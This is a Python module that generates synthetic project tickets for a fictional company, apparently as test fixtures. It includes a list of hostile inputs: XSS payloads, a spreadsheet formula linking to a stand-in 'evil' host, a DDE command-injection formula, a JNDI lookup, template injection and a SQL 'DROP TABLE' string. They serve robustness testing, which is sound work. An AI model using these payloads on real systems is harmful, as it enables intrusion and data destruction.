"""What the tickets of the made-up company say: plausible, alike within one intention, and now and then hostile."""

from __future__ import annotations

from random import Random

UPKEEP, UNLINKED, PARKED, ONBOARDING = "keep-the-lights-on", "unlinked", "mobile-redesign", "self-serve-onboarding"

VERBS = (
    "Add",
    "Build",
    "Change",
    "Document",
    "Extend",
    "Finish",
    "Handle",
    "Improve",
    "Measure",
    "Rework",
    "Simplify",
    "Test",
)

TOPICS: dict[str, tuple[str, ...]] = {
    "fast-checkout": (
        "checkout latency budget", "payment retries", "one-page basket", "address autofill at checkout",
        "card form rendering",
        "basket service cache", "checkout p95 dashboard", "payment provider timeouts", "express pay button",
        "order confirmation speed",
    ),
    "loyalty-points": ("points ledger", "voucher wallet", "points at the till", "tier rules",
    "loyalty statement e-mail", "points expiry"),
    "trusted-data": (
        "revenue report reconciliation", "event schema registry", "warehouse freshness checks",
        "metric definitions page",
        "data lineage for orders", "dashboard of record", "late event handling",
    ),
    "easy-returns": (
        "return label printing", "refund status page", "courier pick-up booking", "return reason survey",
        "instant refund rules",
        "warehouse intake scan", "exchange instead of refund",
    ),
    ONBOARDING: (
        "merchant sign-up form", "business verification upload", "bank account check", "guided shop set-up",
        "sample catalogue",
        "first payout walk-through", "welcome checklist", "self-serve plan change",
    ),
    UPKEEP: (
        "nightly job fails", "certificate about to expire", "flaky deploy pipeline", "disk full on the search node",
        "memory leak in worker",
        "login error 500", "wrong VAT on invoice", "queue backlog alert", "broken e-mail template",
        "database upgrade",
    ),
    UNLINKED: (
        "office seating plan tool", "chat bot for lunch orders", "new icon set", "internal wiki theme",
        "prototype of voice search",
        "conference demo", "gift wrapping option", "translations for Portugal", "partner newsletter export",
        "A/B test of banner colour",
    ),
    PARKED: (
        "new tab bar for the app", "redesigned home screen", "mobile design tokens", "app navigation redesign",
        "dark mode for the app",
    ),
}  # fmt: skip

DETAILS = (
    "for guests",
    "for returning customers",
    "in the EU",
    "on slow networks",
    "behind a flag",
    "for the back office",
    "part 2",
    "end to end",
)

HOSTILE = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil","x")',
    '"><img src=x onerror=alert(document.domain)> basket',
    "🚀🔥 ship it 👩‍👩‍👧‍👦 before Friday 🇩🇪",
    "\u202e\u0642\u0627\u0626\u0645\u0629 \u0627\u0644\u0645\u0647\u0627\u0645\u202c שלום checkout",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}} ${jndi:ldap://evil/a} %s %(name)s",
    "Very long: " + "why does the basket total differ between the mobile page and the confirmation e-mail " * 12,
    "  leading space, tab\tand | pipe, `tick`, [link](javascript:alert(1))",
    "'; DROP TABLE tickets; --",
)


def title(rng: Random, intent: str) -> str:
    topic = rng.choice(TOPICS[intent])
    if intent == UPKEEP and rng.random() < 0.7:
        return f"{topic[0].upper()}{topic[1:]} {rng.choice(DETAILS)}"
    return f"{rng.choice(VERBS)} {topic} {rng.choice(DETAILS)}"


def body(rng: Random, intent: str) -> str | None:
    """A third of the tickets say nothing; half of the rest say how one can tell that they are done."""
    draw = rng.random()
    if draw < 0.33:
        return None
    text = f"We need this because of the {rng.choice(TOPICS[intent])}."
    return (
        text
        if draw < 0.66
        else f"{text}\n\nAcceptance criteria:\n* seen on the {rng.choice(TOPICS[intent])} page\n* a test covers it"
    )
